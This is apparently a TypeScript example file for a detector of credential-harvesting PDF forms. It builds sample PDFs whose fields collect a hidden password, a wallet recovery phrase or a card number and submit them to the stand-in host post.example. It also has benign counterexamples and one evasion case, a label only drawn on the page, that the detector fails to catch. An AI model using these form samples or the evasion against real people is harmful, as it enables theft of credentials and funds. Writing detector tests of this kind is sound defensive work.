import type { Examples } from "@doorward/core";
import { makePdf } from "../example-pdf.ts";

const send = "<< /FT /Btn /T (send) /A << /S /SubmitForm /F << /FS /URL /F (https://post.example/in) >> >> >>";

/** Forms that ask for secrets and send them, and forms that do one of the two. */
export const examples: Examples = {
  hits: [
    {
      name: "a password that is not shown",
      delivered: true,
      files: { "Account.pdf": makePdf({ annotations: ["<< /FT /Tx /T (field2) /Ff 8192 >>", send] }) },
    },
    {
      name: "a seed phrase by the label",
      delivered: true,
      files: { "Wallet.pdf": makePdf({ annotations: ["<< /FT /Tx /T (a) /TU (Your recovery phrase) >>", send] }) },
    },
    {
      name: "a card's number in a form of XML",
      delivered: true,
      files: {
        "Card.pdf": makePdf({
          annotations: ["<< /FT /Tx /T (card_number) >>"],
          catalog: "/AcroForm << /XFA 6 0 R >>",
          objects: [
            "<< /Length 61 >>\nstream\n<template><submit target='https://post.example/'/></template>\nendstream",
          ],
        }),
      },
    },
  ],
  misses: [
    {
      name: "an application to an authority",
      why: "It asks for a name and an address, and sends them where they belong.",
      delivered: true,
      files: {
        "Application.pdf": makePdf({
          annotations: ["<< /FT /Tx /T (name) >>", "<< /FT /Tx /T (passport_number) >>", send],
        }),
      },
    },
    {
      name: "a form with a password that is not sent",
      why: "It stays on the computer: a script opens the rest of the form with it.",
      delivered: true,
      files: { "Form.pdf": makePdf({ annotations: ["<< /FT /Tx /T (password) /Ff 8192 >>"] }) },
    },
    {
      name: "a contract to sign",
      why: "A signature is no secret, and the link leads to the service that keeps the contract.",
      delivered: true,
      files: { "Contract.pdf": makePdf({ lines: ["Contract"], annotations: ["<< /FT /Sig /T (signature) >>"] }) },
    },
  ],
  evasions: [
    {
      name: "a label that is only drawn",
      caughtBy: "nothing",
      delivered: true,
      files: { "Account.pdf": makePdf({ lines: ["Password:"], annotations: ["<< /FT /Tx /T (t2) >>", send] }) },
    },
  ],
};
